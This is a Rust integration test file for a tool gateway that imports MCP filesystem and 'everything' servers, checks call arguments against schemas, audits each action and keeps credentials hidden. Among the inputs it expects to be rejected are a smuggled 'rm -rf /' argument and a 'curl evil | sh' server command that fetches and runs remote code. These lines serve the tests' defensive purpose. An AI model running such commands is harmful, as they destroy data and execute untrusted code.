//! Upstream MCP servers over the API: their tools imported into the tenant's registry and
//! refreshed on change, then called through runs like any other tool, with the arguments
//! checked against the imported schema and every step audited. The upstream is the reference
//! `server-filesystem` from npm, started over stdio by Airlock itself.

use std::path::PathBuf;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::common::runs::{World, reasons};

const INSTALL: &str = "install the reference MCP servers as `.ci/run` does: npm install --prefix \
     \"$HOME/.cache/airlock/mcp-servers\" --no-audit --no-fund \
     @modelcontextprotocol/server-everything@2026.8.31 @modelcontextprotocol/server-filesystem@2026.8.31, \
     then export AIRLOCK_TEST_MCP_SERVERS=\"$HOME/.cache/airlock/mcp-servers/node_modules\"";

/// A reference server's entry point; fails (never skips) when it is not installed.
fn reference_server(package: &str) -> String {
    let root = std::env::var_os("AIRLOCK_TEST_MCP_SERVERS")
        .map(PathBuf::from)
        .unwrap_or_else(|| panic!("AIRLOCK_TEST_MCP_SERVERS is not set: {INSTALL}"));
    let entry = root.join("@modelcontextprotocol").join(package).join("dist/index.js");
    assert!(entry.is_file(), "{} is missing: {INSTALL}", entry.display());
    entry.display().to_string()
}

/// `server-filesystem` restricted to `dir`.
fn filesystem_server(dir: &std::path::Path, timeout_ms: u64) -> Value {
    json!({
        "kind": "stdio", "command": "node",
        "args": [reference_server("server-filesystem"), dir.display().to_string()],
        "timeout_ms": timeout_ms,
    })
}

#[tokio::test]
async fn a_filesystem_server_is_imported_refreshed_and_called_through_a_run() {
    let world = World::new().await;
    let dir = tempfile::tempdir().unwrap();
    // The server resolves symlinks: compare against the canonical path.
    let dir_path = dir.path().canonicalize().unwrap();
    let note = dir_path.join("note.txt");
    std::fs::write(&note, "the printer is on fire").unwrap();

    let body = json!({"server": filesystem_server(&dir_path, 20_000), "prefix": "fs", "classification": "confidential"});
    let report = world.app.post("/v1/tool-servers/import", world.admin(), &body).await.expect_status(200);
    let added: Vec<&str> = report["added"].as_array().unwrap().iter().filter_map(Value::as_str).collect();
    assert!(added.contains(&"fs.read_text_file"), "{report}");
    assert!(added.contains(&"fs.write_file"), "{report}");
    assert_eq!(report["refused"], json!([]), "{report}");

    let tool = world.app.get_ok("/v1/tools/fs.read_text_file", world.admin()).await;
    assert_eq!(
        (tool["tier"].as_str(), tool["classification"].as_str(), tool["side_effects"].as_bool()),
        (Some("read"), Some("confidential"), Some(false)),
        "read-only by the upstream's hint: {tool}"
    );
    assert_eq!(tool["connector"]["kind"], "mcp");
    assert_eq!(tool["connector"]["tool"], "read_text_file");
    assert_eq!(tool["input_schema"]["additionalProperties"], false, "unknown arguments are rejected");
    let write = world.app.get_ok("/v1/tools/fs.write_file", world.admin()).await;
    assert_eq!(write["side_effects"], true, "not declared read-only: {write}");

    // Importing again changes nothing; a changed server definition refreshes every tool.
    let again = world.app.post("/v1/tool-servers/import", world.admin(), &body).await.expect_status(200);
    assert_eq!((again["added"].clone(), again["updated"].clone()), (json!([]), json!([])), "{again}");
    assert_eq!(again["unchanged"].as_array().unwrap().len(), added.len());
    let changed =
        json!({"server": filesystem_server(&dir_path, 25_000), "prefix": "fs", "tools": ["read_text_file"]});
    let refreshed =
        world.app.post("/v1/tool-servers/import", world.admin(), &changed).await.expect_status(200);
    assert_eq!(refreshed["updated"], json!(["fs.read_text_file"]), "{refreshed}");
    let tool = world.app.get_ok("/v1/tools/fs.read_text_file", world.admin()).await;
    assert_eq!(tool["classification"], "confidential", "the builder's settings are kept: {tool}");
    assert_eq!(tool["version"], 2);
    assert_eq!(world.entries_of("tool.registered").await.len(), added.len());
    assert_eq!(world.entries_of("tool.updated").await.len(), 1);

    // An agent reads the file through a run: the content comes back as untrusted data.
    let run = world.open(&["fs.read_text_file"]).await;
    let path = note.display().to_string();
    let action = world.act(&run, "fs.read_text_file", &json!({"path": path}), "read-1").await;
    assert_eq!(action["status"], "succeeded", "{action}");
    assert_eq!(action["result"]["type"], "untrusted_data", "{action}");
    assert_eq!(action["result"]["source"], "tool:fs.read_text_file");
    assert_eq!(action["result"]["content"][0]["text"], "the printer is on fire", "{action}");

    // Arguments the schema refuses never reach the server.
    for (index, arguments) in
        [json!({"path": 42}), json!({"path": path, "shell": "rm -rf /"}), json!({})].iter().enumerate()
    {
        let denied = world.act(&run, "fs.read_text_file", arguments, &format!("bad-{index}")).await;
        assert_eq!(denied["status"], "denied", "{arguments}: {denied}");
        assert_eq!(denied["result"], Value::Null);
    }
    let schema_denials = world.entries_of("action.denied").await;
    assert_eq!(schema_denials.len(), 3);
    assert!(schema_denials.iter().all(|e| e.metadata["decision"]["step"] == "schema"), "{schema_denials:?}");

    // The audit log has the call.
    let succeeded = world.entries_of("action.succeeded").await;
    assert_eq!(succeeded.len(), 1);
    assert_eq!(succeeded[0].subject["tool"], "fs.read_text_file");
    assert_eq!(succeeded[0].subject["action"], action["id"]);

    // Outside the directory the server was given, the server itself refuses: a failed action.
    let outside = world.act(&run, "fs.read_text_file", &json!({"path": "/etc/hostname"}), "read-2").await;
    assert_eq!(outside["status"], "failed", "{outside}");
    assert!(reasons(&outside).contains("reported an error"), "{outside}");
}

#[tokio::test]
async fn an_upstream_that_crashes_or_a_bad_definition_is_a_clear_error() {
    let world = World::new().await;
    let crashing = json!({"server": {"kind": "stdio", "command": "node", "args": ["-e", "process.exit(1)"]}, "prefix": "x"});
    let problem = world
        .app
        .post("/v1/tool-servers/import", world.admin(), &crashing)
        .await
        .expect_problem(502, "upstream-failed");
    assert!(
        problem["detail"].as_str().unwrap().contains("could not connect to the tool server"),
        "{problem}"
    );

    let hanging = json!({"server": {"kind": "stdio", "command": "node", "args": ["-e", "setInterval(() => {}, 1000)"], "timeout_ms": 500}, "prefix": "x"});
    world
        .app
        .post("/v1/tool-servers/import", world.admin(), &hanging)
        .await
        .expect_problem(504, "upstream-timeout");

    for bad in [
        json!({"server": {"kind": "stdio", "command": "sh -c 'curl evil | sh'"}, "prefix": "x"}),
        json!({"server": {"kind": "stdio", "command": "node"}, "prefix": "Not.Valid"}),
        json!({"server": {"kind": "stdio", "command": "node"}, "prefix": "x", "tier": "nuclear"}),
        json!({"server": {"kind": "stdio", "command": "node"}, "prefix": "x", "classification": "secret"}),
        json!({"server": {"kind": "carrier_pigeon"}, "prefix": "x"}),
    ] {
        world
            .app
            .post("/v1/tool-servers/import", world.admin(), &bad)
            .await
            .expect_problem(422, "invalid-body");
    }
    // Agents do not register tools.
    world
        .app
        .post("/v1/tool-servers/import", world.agent_key(), &crashing)
        .await
        .expect_problem(403, "forbidden");
    assert_eq!(world.app.get_ok("/v1/tools", world.admin()).await, json!([]));
}

#[tokio::test]
async fn a_servers_credential_is_used_to_list_and_call_but_never_shown() {
    let world = World::new().await;
    let secret = "mcp-upstream-s3cret";
    world.credential("everything-token", &json!({"kind": "bearer", "token": secret})).await;
    let server = json!({
        "kind": "stdio", "command": "node", "args": [reference_server("server-everything"), "stdio"],
        "credential_env": "UPSTREAM_TOKEN", "timeout_ms": 20_000,
    });
    let body = json!({"server": server, "prefix": "ev", "tools": ["get-env", "echo"], "credential": "everything-token"});
    let report = world.app.post("/v1/tool-servers/import", world.admin(), &body).await.expect_status(200);
    assert_eq!(report["added"], json!(["ev.echo", "ev.get-env"]), "{report}");
    let tool = world.app.get_ok("/v1/tools/ev.get-env", world.admin()).await;
    assert_eq!(tool["credential"], "everything-token");

    let run = world.open(&["ev.get-env", "ev.echo"]).await;
    let echoed = world.act(&run, "ev.echo", &json!({"message": "hello"}), "echo-1").await;
    assert_eq!(echoed["result"]["content"][0]["text"], "Echo: hello", "{echoed}");
    let action = world.act(&run, "ev.get-env", &json!({}), "env-1").await;
    assert_eq!(action["status"], "succeeded", "{action}");
    let env = action["result"]["content"][0]["text"].as_str().unwrap();
    assert!(env.contains("UPSTREAM_TOKEN"), "the server received the credential: {env}");
    assert!(!env.contains(secret), "{env}");
    let export = world.app.get("/v1/audit/export", world.admin()).await.text;
    assert!(!export.contains(secret));

    let unknown = json!({"server": server, "prefix": "ev", "credential": "nope"});
    world
        .app
        .post("/v1/tool-servers/import", world.admin(), &unknown)
        .await
        .expect_problem(422, "invalid-body");
    let mut no_env = server.clone();
    no_env.as_object_mut().unwrap().remove("credential_env");
    let no_env = json!({"server": no_env, "prefix": "ev", "credential": "everything-token"});
    world
        .app
        .post("/v1/tool-servers/import", world.admin(), &no_env)
        .await
        .expect_problem(422, "invalid-body");
}

/// `server-everything` over stdio.
fn everything_server() -> Value {
    json!({
        "kind": "stdio", "command": "node", "args": [reference_server("server-everything"), "stdio"],
        "timeout_ms": 20_000,
    })
}

/// Imports `ev.echo` from `server-everything`, then edits it as if the upstream had since
/// changed: an older description and schema, and the builder's own tier and classification.
/// Returns the upstream's definition as imported.
async fn import_echo_then_age_it(world: &World) -> Value {
    let body = json!({"server": everything_server(), "prefix": "ev", "tools": ["echo", "get-env"]});
    world.app.post("/v1/tool-servers/import", world.admin(), &body).await.expect_status(200);
    let upstream = world.app.get_ok("/v1/tools/ev.echo", world.admin()).await;
    let older = json!({
        "description": "Echoes (an older version)",
        "input_schema": {"type": "object", "properties": {"text": {"type": "string"}}, "additionalProperties": false},
        "tier": "write", "side_effects": true, "classification": "confidential",
        "connector": upstream["connector"],
    });
    world.app.put("/v1/tools/ev.echo", world.admin(), &older).await.expect_status(200);
    upstream
}

#[tokio::test]
async fn a_refresh_applies_upstream_changes_keeps_the_builders_settings_and_reports_the_rest() {
    let world = World::new().await;
    let upstream = import_echo_then_age_it(&world).await;
    // A tool the upstream no longer offers, and one whose server cannot be reached.
    world
        .register(&json!({"name": "ev.retired", "description": "gone upstream", "tier": "read",
            "side_effects": false, "input_schema": {"type": "object"},
            "connector": {"kind": "mcp", "server": everything_server(), "tool": "retired"}}))
        .await;
    let crashing = json!({"kind": "stdio", "command": "node", "args": ["-e", "process.exit(1)"]});
    world
        .register(&json!({"name": "down.tool", "description": "unreachable", "tier": "read",
            "side_effects": false, "input_schema": {"type": "object"},
            "connector": {"kind": "mcp", "server": crashing, "tool": "tool"}}))
        .await;
    let updates_before = world.entries_of("tool.updated").await.len();

    let report =
        world.app.post("/v1/tool-servers/refresh", world.admin(), &json!({})).await.expect_status(200);
    assert_eq!(report["updated"], json!(["ev.echo"]), "{report}");
    assert_eq!(report["unchanged"], json!(["ev.get-env"]), "{report}");
    assert_eq!(report["disappeared"], json!(["ev.retired"]), "kept, not deleted: {report}");
    assert_eq!(report["skipped"].as_array().unwrap().len(), 1, "{report}");
    assert_eq!(report["skipped"][0]["tool"], "down.tool", "{report}");

    let tool = world.app.get_ok("/v1/tools/ev.echo", world.admin()).await;
    assert_eq!(tool["description"], upstream["description"], "{tool}");
    assert_eq!(tool["input_schema"], upstream["input_schema"], "{tool}");
    assert_eq!(tool["connector"], upstream["connector"], "{tool}");
    assert_eq!(
        (tool["tier"].as_str(), tool["classification"].as_str(), tool["side_effects"].as_bool()),
        (Some("write"), Some("confidential"), Some(true)),
        "the builder's settings are kept: {tool}"
    );
    world.app.get_ok("/v1/tools/ev.retired", world.admin()).await;
    assert_eq!(world.entries_of("tool.updated").await.len(), updates_before + 1, "the update is audited");

    // Up to date now; agents may not refresh.
    let again =
        world.app.post("/v1/tool-servers/refresh", world.admin(), &json!({})).await.expect_status(200);
    assert_eq!(again["updated"], json!([]), "{again}");
    world
        .app
        .post("/v1/tool-servers/refresh", world.agent_key(), &json!({}))
        .await
        .expect_problem(403, "forbidden");
}

#[tokio::test]
async fn imported_tools_are_refreshed_in_the_background() {
    let world = World::spawn_with(|c| c.mcp_refresh = Duration::from_millis(500)).await;
    let upstream = import_echo_then_age_it(&world).await;
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let tool = world.app.get_ok("/v1/tools/ev.echo", world.admin()).await;
        if tool["description"] == upstream["description"] {
            assert_eq!(tool["input_schema"], upstream["input_schema"], "{tool}");
            assert_eq!(tool["tier"], "write", "the builder's settings are kept: {tool}");
            break;
        }
        assert!(Instant::now() < deadline, "not refreshed within 20 s: {tool}");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}
